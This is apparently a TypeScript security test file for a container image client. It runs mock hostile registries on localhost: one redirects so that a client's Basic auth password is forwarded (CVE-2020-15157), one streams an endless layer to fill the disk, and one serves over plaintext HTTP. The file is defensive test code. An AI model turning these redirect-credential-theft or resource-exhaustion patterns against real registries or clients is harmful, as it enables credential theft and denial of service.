// Attacks by a registry, or by someone between it and us. The naive client that one sees get caught is Node's own fetch, told to go
// wherever it is sent.

import { createHash } from 'node:crypto'
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { attacks, type Protection, type Seen, type Stage, says } from './attack.ts'
import { secret } from './host.ts'
import { program } from './place.ts'
import { spawnCommand } from './spawn.ts'

const sameHost: Protection = {
  layer: 'no password to another host',
  without: 'a client that takes its headers along wherever it is sent',
}

const sizes: Protection = {
  layer: 'the size that the manifest says',
  without: 'a client that reads until the end',
}

const loopbackOnly: Protection = {
  layer: 'TLS, but for 127.0.0.1',
  without: 'a client that asks by plain HTTP whoever is named',
}

const digestOf = (text: string | Buffer) => `sha256:${createHash('sha256').update(text).digest('hex')}`

export const registry = attacks(
  {
    name: 'a registry that sends the password elsewhere',
    cve: 'CVE-2020-15157',
    tries: 'as a registry, answers with the address of another host, for the password to come along',
    stoppedBy: [sameHost],
    left: 'nothing: the password is Bob’s',
    attack: {
      does: async (stage) => {
        let told = ''
        await using thief = await serving((request, response) => {
          told += request.headers.authorization ?? ''
          response.writeHead(404).end()
        })
        await using liar = await serving((_, response) => {
          response.writeHead(307, { location: `http://${thief.host}/v2/x/manifests/1` }).end()
        })
        const auth = Buffer.from(`bob:${secret}`).toString('base64')
        if (stage.isOff(sameHost)) await fetchNaively(`http://${liar.host}/v2/x/manifests/1`, `Basic ${auth}`)
        else await pull(stage, `${liar.host}/x:1`, { [liar.host]: { auth } })
        return seen(told.includes(auth) ? 'told' : 'silent')
      },
    },
    gotThrough: says('told'),
  },
  {
    name: 'a registry that does not stop',
    tries: 'as a registry, sends a layer of ten bytes that goes on and on, until the disk is full',
    stoppedBy: [sizes],
    left: 'nothing: the disk is the host’s',
    attack: {
      does: async (stage) => {
        const config = JSON.stringify({
          architecture: 'amd64',
          os: 'linux',
          rootfs: { type: 'layers', diff_ids: [digestOf('')] },
        })
        const manifest = JSON.stringify({
          schemaVersion: 2,
          mediaType: 'application/vnd.oci.image.manifest.v1+json',
          config: {
            mediaType: 'application/vnd.oci.image.config.v1+json',
            digest: digestOf(config),
            size: config.length,
          },
          layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: digestOf('x'), size: 10 }],
        })
        let sent = 0
        const piece = Buffer.alloc(2 ** 20)
        await using liar = await serving((request, response) => {
          const url = request.url ?? ''
          if (url.includes('/manifests/'))
            return void response
              .writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' })
              .end(manifest)
          if (url.includes(digestOf(config))) return void response.end(config)
          if (!url.includes(digestOf('x'))) return void response.writeHead(200).end('{}')
          const more = () => {
            while (sent < 64 && !response.destroyed) {
              sent++
              if (!response.write(piece)) return void response.once('drain', more)
            }
            response.end()
          }
          more()
        })
        if (stage.isOff(sizes)) {
          const body = await (await fetch(`http://${liar.host}/v2/x/blobs/${digestOf('x')}`)).arrayBuffer()
          return seen(String(body.byteLength))
        }
        const root = await pull(stage, `${liar.host}/x:1`, {})
        return seen(String(sizeOf(root)))
      },
    },
    gotThrough: ({ stdout }) => Number(stdout) > 2 ** 24,
  },
  {
    name: 'a registry without TLS',
    tries: 'answers in the place of a registry, on the way to it, where nothing is encrypted',
    stoppedBy: [loopbackOnly],
    left: 'the digest, for who asks by digest and not by name',
    missing: () => !outward() && 'this kernel has no network but the loopback',
    attack: {
      does: async (stage) => {
        let asked = ''
        await using other = await serving((request, response) => {
          asked += `${request.method} ${request.url}`
          response.writeHead(404).end()
        }, outward()!)
        if (stage.isOff(loopbackOnly)) await fetchNaively(`http://${other.host}/v2/x/manifests/1`)
        else await pull(stage, `${other.host}/x:1`, {})
        return seen(asked)
      },
    },
    gotThrough: says('GET /v2/'),
  },
)

const seen = (stdout: string): Seen => ({ status: 0, stdout, stderr: '', results: [] })

interface Served extends AsyncDisposable {
  readonly host: string
}

/** An address of this machine that others could have, too. */
function outward(): string | undefined {
  const all = Object.values(networkInterfaces()).flatMap((some) => some ?? [])
  return all.find(({ family, internal }) => family === 'IPv4' && !internal)?.address
}

async function serving(answer: RequestListener, at = '127.0.0.1'): Promise<Served> {
  const server = createServer(answer)
  await new Promise<void>((resolve) => void server.listen(0, at, resolve))
  return {
    host: `${at}:${(server.address() as AddressInfo).port}`,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

/** Follows every redirection with all that it has. */
async function fetchNaively(url: string, authorization = ''): Promise<void> {
  const response = await fetch(url, { redirect: 'manual', headers: { authorization } })
  const next = response.headers.get('location')
  await response.arrayBuffer()
  if (next) await fetchNaively(next, authorization)
}

/** Pull into a root of its own, with these passwords. @returns the root */
async function pull({ host }: Stage, image: string, auths: object): Promise<string> {
  const root = join(host.directory, 'root')
  mkdirSync(root)
  writeFileSync(join(host.directory, 'config.json'), JSON.stringify({ auths }))
  await spawnCommand(['timeout', '20', program, 'pull', '-q', image], {
    env: { GOCKER_ROOT: root, DOCKER_CONFIG: host.directory },
  })
  return root
}

function sizeOf(directory: string): number {
  if (!existsSync(directory)) return 0
  return readdirSync(directory, { recursive: true, encoding: 'utf8' })
    .map((name) => statSync(join(directory, name)).size)
    .reduce((a, b) => a + b, 0)
}
